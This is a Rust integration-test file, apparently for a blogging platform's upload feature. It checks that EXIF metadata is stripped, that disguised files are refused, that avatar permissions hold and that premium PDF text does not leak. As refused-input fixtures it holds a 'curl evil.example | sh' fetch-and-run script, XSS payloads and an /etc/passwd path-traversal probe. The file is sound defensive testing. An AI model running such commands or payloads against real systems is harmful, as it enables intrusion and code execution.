//! Uploads: sniffed by their bytes, limited by kind, images re-encoded without metadata at
//! responsive widths, avatars for readers, PDFs studied with their post, and S3 storage.

use std::time::Duration;

use image::{DynamicImage, ImageEncoder, RgbImage};
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::{
    helpers::{Backend, Overrides, Session, TestApp, fields, problem, spawn_app, spawn_app_with, urlencode},
    support::eventually,
};

both_backends!(
    an_image_is_reencoded_without_its_metadata_at_responsive_widths,
    disguised_files_are_refused_and_each_kind_has_its_limit,
    readers_upload_only_their_own_avatar,
    a_pdf_attached_to_a_post_is_searched_and_cited_by_page,
);

const BOUNDARY: &str = "lectern-test-7d1f0c";

/// One part of a multipart form: (field name, file name, bytes).
type Part<'a> = (&'a str, Option<&'a str>, &'a [u8]);

pub async fn upload(app: &TestApp, token: Option<&str>, parts: &[Part<'_>]) -> reqwest::Response {
    let mut req = app
        .client
        .post(app.url("/api/v1/uploads"))
        .header("content-type", format!("multipart/form-data; boundary={BOUNDARY}"))
        .body(lectern::bench::multipart_form(BOUNDARY, parts));
    if let Some(token) = token {
        req = req.bearer_auth(token);
    }
    req.send().await.expect("upload request")
}

async fn created(res: reqwest::Response) -> Value {
    let status = res.status();
    let body: Value = res.json().await.unwrap_or(Value::Null);
    assert_eq!(status, StatusCode::CREATED, "{body}");
    body
}

fn photo(width: u32, height: u32) -> DynamicImage {
    DynamicImage::ImageRgb8(RgbImage::from_fn(width, height, |x, y| image::Rgb([(x * 7 % 256) as u8, (y * 3 % 256) as u8, ((x + y) % 256) as u8])))
}

/// A JPEG carrying an EXIF block with a GPS position and a camera serial.
pub fn jpeg_with_exif(width: u32, height: u32) -> Vec<u8> {
    let img = photo(width, height);
    let mut jpeg = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut jpeg, 90).write_image(img.to_rgb8().as_raw(), width, height, image::ExtendedColorType::Rgb8).unwrap();
    let mut exif = b"Exif\0\0MM\0\x2a\0\0\0\x08\0\0\0\0\0\0".to_vec();
    exif.extend(b"GPSLatitude=51.5007N GPSLongitude=0.1246W SerialNumber=SecretCamera-1234");
    let mut out = jpeg[..2].to_vec();
    out.extend([0xFF, 0xE1]);
    out.extend(((exif.len() + 2) as u16).to_be_bytes());
    out.extend(exif);
    out.extend(&jpeg[2..]);
    out
}

fn png(width: u32, height: u32) -> Vec<u8> {
    let img = photo(width, height);
    let mut out = Vec::new();
    image::codecs::png::PngEncoder::new(&mut out).write_image(img.to_rgb8().as_raw(), width, height, image::ExtendedColorType::Rgb8).unwrap();
    out
}

fn pdf(pages: &[String]) -> Vec<u8> {
    lectern::bench::text_pdf(pages)
}

async fn fetch(app: &TestApp, url: &str) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
    let res = app.get(url, None).await;
    (res.status(), res.headers().clone(), res.bytes().await.expect("body").to_vec())
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

async fn an_image_is_reencoded_without_its_metadata_at_responsive_widths(backend: Backend) {
    let Some(app) = spawn_app(backend).await else { return };
    let admin = app.admin().await;
    let original = jpeg_with_exif(1200, 800);
    assert!(contains(&original, b"SecretCamera-1234"));

    let up = created(upload(&app, Some(&admin.access), &[("file", Some("holiday.jpg"), &original)]).await).await;
    assert_eq!(up["kind"], "image");
    assert_eq!((up["width"].as_u64(), up["height"].as_u64()), (Some(1200), Some(800)));
    let url = up["url"].as_str().unwrap();
    assert!(url.starts_with("/uploads/") && url.ends_with("-1200.jpg"), "{url}");
    let widths: Vec<u64> = up["variants"].as_array().unwrap().iter().map(|v| v["width"].as_u64().unwrap()).collect();
    assert_eq!(widths, [480, 960, 1200]);
    assert_eq!(up["markdown"], format!("![holiday.jpg]({url})"));

    let (status, headers, stored) = fetch(&app, url).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "image/jpeg");
    assert_eq!(headers["cache-control"], "public, max-age=31536000, immutable");
    assert!(!contains(&stored, b"Exif") && !contains(&stored, b"SecretCamera") && !contains(&stored, b"GPS"), "metadata survived re-encoding");
    let decoded = image::load_from_memory(&stored).expect("a JPEG");
    assert_eq!((decoded.width(), decoded.height()), (1200, 800));
    for variant in up["variants"].as_array().unwrap() {
        let (status, headers, bytes) = fetch(&app, variant["url"].as_str().unwrap()).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(headers["content-type"], "image/webp");
        let img = image::load_from_memory_with_format(&bytes, image::ImageFormat::WebP).expect("a WebP");
        assert_eq!(img.width() as u64, variant["width"].as_u64().unwrap());
        assert!(!contains(&bytes, b"SecretCamera"));
    }

    // The same bytes again: the same content-addressed names.
    let again = created(upload(&app, Some(&admin.access), &[("file", Some("copy.jpg"), &original)]).await).await;
    assert_eq!(again["url"], up["url"]);

    // In a post, the image becomes a <picture> with its WebP widths.
    let post = app.published_post(&admin, "With a picture", json!({"markdown": format!("Look:\n\n{}\n", up["markdown"].as_str().unwrap())})).await;
    let page: Value = app.get(&format!("/api/v1/posts/{}", post["slug"].as_str().unwrap()), None).await.json().await.unwrap();
    let html = page["html"].as_str().unwrap();
    let stem = url.trim_end_matches("-1200.jpg");
    assert!(html.contains(&format!(r#"srcset="{stem}-480.webp 480w, {stem}-960.webp 960w, {stem}-1200.webp 1200w""#)), "{html}");
    assert!(html.contains(&format!(r#"<img src="{url}" alt="holiday.jpg""#)), "{html}");

    // Names this server never wrote are not served, and paths cannot escape the folder.
    assert_eq!(app.get("/uploads/..%2F..%2Fetc%2Fpasswd", None).await.status(), StatusCode::NOT_FOUND);
    assert_eq!(app.get(&format!("{stem}-77.jpg"), None).await.status(), StatusCode::NOT_FOUND);
}

async fn disguised_files_are_refused_and_each_kind_has_its_limit(backend: Backend) {
    let Some(app) = spawn_app(backend).await else { return };
    let admin = app.admin().await;
    let token = Some(admin.access.as_str());
    for (name, bytes) in [
        ("photo.png", b"#!/bin/sh\ncurl evil.example | sh\n".as_slice()),
        ("photo.png", b"<script>alert(1)</script>".as_slice()),
        ("data.csv", b"<html><body onload=alert(1)>".as_slice()),
        ("tool.exe", b"MZ\x90\0\x03\0\0\0".as_slice()),
        ("paper.pdf", png(4, 4).as_slice()),
    ] {
        let p = problem(upload(&app, token, &[("file", Some(name), bytes)]).await, StatusCode::UNSUPPORTED_MEDIA_TYPE).await;
        assert_eq!(fields(&p), ["file"], "{name}: {p}");
    }
    // Over a kind's limit: 413, before any decoding.
    let mut big = png(8, 8);
    big.resize(10 * 1024 * 1024 + 1, 0);
    let p = problem(upload(&app, token, &[("file", Some("big.png"), &big)]).await, StatusCode::PAYLOAD_TOO_LARGE).await;
    assert_eq!(fields(&p), ["file"]);
    assert!(p["detail"].as_str().unwrap().contains("10 MiB"), "{p}");
    // A declared body over the upload limit is refused before it is read.
    let res = app
        .client
        .post(app.url("/api/v1/uploads"))
        .bearer_auth(&admin.access)
        .header("content-type", format!("multipart/form-data; boundary={BOUNDARY}"))
        .header("content-length", "40000000")
        .body(vec![0u8; 16])
        .send()
        .await;
    if let Ok(res) = res {
        assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    }
    // Data files are accepted when their content agrees with their name.
    let csv = created(upload(&app, token, &[("file", Some("scores.csv"), b"name,score\nada,3\n")]).await).await;
    assert_eq!((csv["kind"].as_str(), csv["markdown"].as_str().unwrap().starts_with("[scores.csv](")), (Some("csv"), true));
    let (status, headers, body) = fetch(&app, csv["url"].as_str().unwrap()).await;
    assert_eq!((status, headers["content-disposition"].to_str().unwrap()), (StatusCode::OK, "attachment"));
    assert_eq!(body, b"name,score\nada,3\n");
    created(upload(&app, token, &[("file", Some("data.json"), br#"{"points": [1, 2, 3]}"#)]).await).await;
    // Form mistakes name their field.
    assert_eq!(fields(&problem(upload(&app, token, &[("purpose", None, b"post")]).await, StatusCode::UNPROCESSABLE_ENTITY).await), ["file"]);
    assert_eq!(fields(&problem(upload(&app, token, &[("file", Some("a.csv"), b"a\n"), ("purpose", None, b"banner")]).await, StatusCode::UNPROCESSABLE_ENTITY).await), ["purpose"]);
    assert_eq!(fields(&problem(upload(&app, token, &[("file", Some("a.csv"), b"a\n"), ("post", None, b"nope")]).await, StatusCode::UNPROCESSABLE_ENTITY).await), ["post"]);
    let missing = uuid::Uuid::new_v4().to_string();
    problem(upload(&app, token, &[("file", Some("a.csv"), b"a\n"), ("post", None, missing.as_bytes())]).await, StatusCode::NOT_FOUND).await;
    // Not multipart at all.
    let res = app.post("/api/v1/uploads", token, json!({"file": "x"})).await;
    assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
}

async fn me(app: &TestApp, session: &Session) -> Value {
    app.get("/api/v1/auth/me", Some(&session.access)).await.json().await.unwrap()
}

async fn readers_upload_only_their_own_avatar(backend: Backend) {
    let Some(app) = spawn_app(backend).await else { return };
    let reader = app.reader("avatar@example.com").await;
    let picture = png(600, 400);
    problem(upload(&app, None, &[("file", Some("me.png"), &picture), ("purpose", None, b"avatar")]).await, StatusCode::UNAUTHORIZED).await;
    // Files for posts are for admins.
    problem(upload(&app, Some(&reader.access), &[("file", Some("me.png"), &picture)]).await, StatusCode::FORBIDDEN).await;
    let pdf_bytes = pdf(&["not a face".into()]);
    let p = problem(upload(&app, Some(&reader.access), &[("file", Some("me.pdf"), &pdf_bytes), ("purpose", None, b"avatar")]).await, StatusCode::UNSUPPORTED_MEDIA_TYPE).await;
    assert_eq!(fields(&p), ["file"]);
    let mut big = png(8, 8);
    big.resize(2 * 1024 * 1024 + 1, 0);
    problem(upload(&app, Some(&reader.access), &[("file", Some("me.png"), &big), ("purpose", None, b"avatar")]).await, StatusCode::PAYLOAD_TOO_LARGE).await;

    let up = created(upload(&app, Some(&reader.access), &[("file", Some("me.png"), &picture), ("purpose", None, b"avatar")]).await).await;
    assert_eq!((up["purpose"].as_str(), up["width"].as_u64(), up["height"].as_u64()), (Some("avatar"), Some(256), Some(256)));
    assert_eq!(me(&app, &reader).await["avatar_url"], up["url"]);
    let (status, _, bytes) = fetch(&app, up["url"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(image::load_from_memory(&bytes).unwrap().width(), 256);

    assert_eq!(app.send(reqwest::Method::DELETE, "/api/v1/me/avatar", Some(&reader.access), None).await.status(), StatusCode::NO_CONTENT);
    assert_eq!(me(&app, &reader).await["avatar_url"], Value::Null);

    // The export lists the uploads; deleting the account removes its avatar files.
    let export: Value = app.get("/api/v1/me/export", Some(&reader.access)).await.json().await.unwrap();
    assert_eq!(export["uploads"][0]["url"], up["url"], "{export}");
    assert_eq!(export["account"]["avatar_url"], Value::Null);
    let gone = app.send(reqwest::Method::DELETE, "/api/v1/me", Some(&reader.access), Some(json!({"password": "reader-password-1"}))).await;
    assert_eq!(gone.status(), StatusCode::NO_CONTENT);
    assert_eq!(app.get(up["url"].as_str().unwrap(), None).await.status(), StatusCode::NOT_FOUND);
    assert_eq!(app.get(up["variants"][0]["url"].as_str().unwrap(), None).await.status(), StatusCode::NOT_FOUND);
}

async fn documents(app: &TestApp, admin: &Session, post_id: &str) -> Vec<Value> {
    app.get(&format!("/api/v1/admin/uploads?post={post_id}"), Some(&admin.access)).await.json::<Vec<Value>>().await.unwrap()
}

async fn settled(app: &TestApp, admin: &Session, post_id: &str, upload_id: &str) -> Value {
    eventually("the PDF's text extraction", Duration::from_secs(30), || async {
        documents(app, admin, post_id).await.into_iter().find(|d| d["id"] == upload_id && d["text_status"] != "pending")
    })
    .await
}

async fn a_pdf_attached_to_a_post_is_searched_and_cited_by_page(backend: Backend) {
    let Some(app) = spawn_app(backend).await else { return };
    let admin = app.admin().await;
    let post = app.published_post(&admin, "Reading the paper", json!({})).await;
    let post_id = post["id"].as_str().unwrap();
    let pages: Vec<String> = (1..=5).map(|n| if n == 3 { "The zanzibarite crystal grows in cold caves.".to_string() } else { format!("Ordinary page number {n}.") }).collect();
    let bytes = pdf(&pages);
    let up = created(upload(&app, Some(&admin.access), &[("file", Some("field-notes.pdf"), &bytes), ("post", None, post_id.as_bytes())]).await).await;
    assert_eq!((up["kind"].as_str(), up["text_status"].as_str(), up["post_id"].as_str()), (Some("pdf"), Some("pending"), Some(post_id)));
    assert_eq!(up["markdown"], format!("[field-notes.pdf]({})", up["url"].as_str().unwrap()));

    let doc = settled(&app, &admin, post_id, up["id"].as_str().unwrap()).await;
    assert_eq!((doc["text_status"].as_str(), doc["pages"].as_u64()), (Some("ready"), Some(5)), "{doc}");

    let found: Value = app.get(&format!("/api/v1/search?q={}&mode=keyword", urlencode("zanzibarite")), None).await.json().await.unwrap();
    let hit = &found["items"][0];
    assert_eq!(hit["slug"], post["slug"], "{found}");
    assert_eq!(hit["heading"], "field-notes.pdf, page 3", "{found}");
    assert!(hit["snippet"].as_str().unwrap().contains("<mark>zanzibarite</mark>"), "{hit}");
    let sources: Value = app.get(&format!("/api/v1/ask/sources?q={}", urlencode("zanzibarite crystal")), Some(&admin.access)).await.json().await.unwrap();
    let cited = sources["sources"].as_array().unwrap().iter().find(|s| s["snippet"].as_str().is_some_and(|t| t.contains("zanzibarite"))).cloned();
    assert_eq!(cited.as_ref().map(|c| c["heading"].clone()), Some(json!("field-notes.pdf, page 3")), "{sources}");

    // A scan (no text layer) says so, and adds nothing.
    let scan = created(upload(&app, Some(&admin.access), &[("file", Some("scan.pdf"), &pdf(&[String::new(), String::new()])), ("post", None, post_id.as_bytes())]).await).await;
    let scan = settled(&app, &admin, post_id, scan["id"].as_str().unwrap()).await;
    assert_eq!(scan["text_status"], "no_text", "{scan}");

    // On a premium post, readers without access never see the document's text.
    let premium = app.published_post(&admin, "Premium reading", json!({"premium": true, "markdown": "## Free part\n\nOpen words.\n\n## Paid part\n\nClosed words.\n"})).await;
    let premium_id = premium["id"].as_str().unwrap();
    let paid =
        created(upload(&app, Some(&admin.access), &[("file", Some("paid.pdf"), &pdf(&["The quokkabyte secret lives here.".into()])), ("post", None, premium_id.as_bytes())]).await)
            .await;
    settled(&app, &admin, premium_id, paid["id"].as_str().unwrap()).await;
    let reader = app.reader("doc-reader@example.com").await;
    let anon: Value = app.get(&format!("/api/v1/search?q={}&mode=keyword", urlencode("quokkabyte")), Some(&reader.access)).await.json().await.unwrap();
    assert!(!anon.to_string().contains("quokkabyte secret"), "premium document text leaked: {anon}");
    let theirs: Value = app.get(&format!("/api/v1/ask/sources?q={}", urlencode("quokkabyte secret")), Some(&reader.access)).await.json().await.unwrap();
    assert!(!theirs.to_string().contains("quokkabyte"), "premium document text leaked to Ask: {theirs}");
    let mine: Value = app.get(&format!("/api/v1/search?q={}&mode=keyword", urlencode("quokkabyte")), Some(&admin.access)).await.json().await.unwrap();
    assert!(mine.to_string().contains("quokkabyte"), "{mine}");
}

/// Uploads on an S3-compatible server (moto), end to end: stored there, served from there.
#[tokio::test]
async fn uploads_live_in_an_s3_bucket_when_configured() {
    let Some(s3) = crate::support::S3Server::start().await else { return };
    let overrides =
        [("S3_BUCKET", "lectern-test"), ("S3_ENDPOINT", s3.url.as_str()), ("S3_REGION", "us-east-1"), ("S3_ACCESS_KEY_ID", "testing"), ("S3_SECRET_ACCESS_KEY", "testing")];
    let Some(app) = spawn_app_with(Backend::Sqlite, Overrides(&overrides)).await else { return };
    s3.create_bucket("lectern-test").await;
    let admin = app.admin().await;
    let up = created(upload(&app, Some(&admin.access), &[("file", Some("chart.png"), &png(700, 300))]).await).await;
    let key = up["url"].as_str().unwrap().trim_start_matches("/uploads/").to_string();
    // The object is in the bucket, as the S3 API lists it.
    let listing = s3.list("lectern-test").await;
    assert!(listing.contains(&key), "{key} not in {listing}");
    for variant in up["variants"].as_array().unwrap() {
        assert!(listing.contains(variant["url"].as_str().unwrap().trim_start_matches("/uploads/")), "{listing}");
    }
    // Nothing on local disk, and Lectern serves it from the bucket.
    let (status, headers, bytes) = fetch(&app, up["url"].as_str().unwrap()).await;
    assert_eq!((status, headers["content-type"].to_str().unwrap()), (StatusCode::OK, "image/png"));
    assert_eq!(image::load_from_memory(&bytes).unwrap().width(), 700);
    // A PDF's text is read back from the bucket by the extraction job.
    let post = app.published_post(&admin, "Bucketed paper", json!({})).await;
    let post_id = post["id"].as_str().unwrap();
    let doc =
        created(upload(&app, Some(&admin.access), &[("file", Some("b.pdf"), &pdf(&["Words about the wombatine bucket.".into()])), ("post", None, post_id.as_bytes())]).await).await;
    assert_eq!(settled(&app, &admin, post_id, doc["id"].as_str().unwrap()).await["text_status"], "ready");
}
